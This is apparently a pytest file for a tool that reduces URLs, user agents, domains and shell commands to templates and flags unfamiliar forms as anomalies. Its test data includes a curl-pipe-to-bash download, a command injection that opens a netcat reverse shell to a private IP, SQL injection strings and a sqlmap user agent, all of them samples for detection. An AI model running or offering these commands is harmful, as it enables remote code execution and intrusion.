"""URLs, user agents, domain names and command lines: texts with a form of their own."""

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.features.common import STEADY, encode, one_field
from worker.features.infer import infer_schema
from worker.features.kinds import KINDS, Agent, Command, Domain, Text, Url
from worker.features.kinds.masks import MAX_TEMPLATE
from worker.features.learned import UNKNOWN_ID

DRAW = random.Random(0)
COMMANDS = ["/usr/bin/tar -czf /backup/{n}.tgz /srv", "ls -la /home/u{n}", "python3 job.py --day {n}", "df -h /mnt/{n}"]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1{n}.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:1{n}.0) Gecko/20100101 Firefox/1{n}.0",
    "curl/8.{n}.1",
]
EXAMPLES: dict[type[Text], list[str]] = {
    Url: [
        f"/api/v1/users/{n}/orders?page={n % 9}" if n % 3 else f"https://cdn.example.com/img/{n}.png" for n in range(90)
    ],
    Agent: [AGENTS[n % 3].format(n=n % 40) for n in range(120)],
    Domain: [f"{DRAW.choice(['www', 'api', 'mail'])}.{''.join(DRAW.choices('abcdef', k=6))}.com" for n in range(90)],
    Command: [COMMANDS[n % 4].format(n=n) for n in range(90)],
}


@pytest.mark.parametrize(
    ("kind", "text", "line"),
    [
        (
            Url,
            "https://Shop.example.com/v1/users/4711?s=up&id=1",
            "https://shop.example.com /v1 /users /<num> ?id=<num> ?s=<word>",
        ),
        (Url, "https://shop.example.com", "https://shop.example.com"),
        (Url, "/a/item-7/?b=1&b=2&c", "/a /item-<num> / ?b=<num> ?c"),
        (Url, "/x/6fa459ea-ee8a-3ca4-894e-db77e160355e/3f9a8b7c6d?q=1' OR 1=1#end", "/x /<uuid> /<hex> ?q=<other>"),
        (Url, "no url", "/nourl"),
        (
            Agent,
            AGENTS[0].format(n=7),
            "Mozilla (Windows NT ; Win64; x64) AppleWebKit (KHTML, like Gecko) Chrome Safari",
        ),
        (Agent, "python-requests/2.31.0", "python-requests"),
        (Domain, "a.b.Example.co.uk.", "*.*.example.co.uk"),
        (Domain, "www.example.com", "*.example.com"),
        (Domain, "localhost", "localhost"),
        (Command, "/usr/bin/python3 -m http.server 8080", "python<num> -m http.server <num>"),
        (Command, "sh -c 'curl http://10.0.0.7/a | /bin/bash'", "sh -c curl <url> | bash"),
        (Command, "/data/x  -a --out=/var/b", "<path> -a --out=<path>"),
    ],
)
def test_a_form_keeps_what_tells_sorts_apart(kind: type[Text], text: str, line: str) -> None:
    assert kind.reduce(text)[0] == line


@pytest.mark.parametrize("kind", EXAMPLES)
def test_a_form_is_proposed_where_nearly_all_values_have_it(kind: type[Text]) -> None:
    values = EXAMPLES[kind]

    others = ["?!", "!?", "??"] * len(values)

    proposed = infer_schema([{"x": value, "y": n % 7 / 3} for n, value in enumerate([*values, "?!"])])
    mixed = infer_schema([{"x": value, "y": n % 7 / 3} for n, value in enumerate([*values, *others])])

    assert proposed.schema.fields[0].kind == kind.kind
    assert mixed.schema.fields[0].kind != kind.kind


@pytest.mark.parametrize(
    ("kind", "usual", "odd"),
    [
        (Url, "/api/v1/users/777/orders?page=3", "/api/v1/users/777/orders?page=1%27%20OR%201=1"),
        (Url, "https://cdn.example.com/img/12.png", "https://cdn.example.net/img/12.png"),
        (Agent, AGENTS[1].format(n=99), "sqlmap/1.7"),
        (Command, "df -h /mnt/999", "df -h /mnt/999 ; nc -e /bin/sh 10.0.0.9 4444"),
    ],
)
def test_what_has_another_form_than_ever_is_new(kind: type[Text], usual: str, odd: str) -> None:
    schema, fitted = one_field(kind.kind, EXAMPLES[kind])

    category_ids = encode(schema, fitted, [usual, odd]).category_ids[:, 0]

    assert category_ids[0] != UNKNOWN_ID == category_ids[1]


@pytest.mark.parametrize("kind", EXAMPLES)
@STEADY
@given(text=st.text())
def test_any_text_is_reduced(kind: type[Text], text: str) -> None:
    assert len(KINDS[kind.kind]("x").reduce(text)[0]) <= MAX_TEMPLATE  # type: ignore[attr-defined]
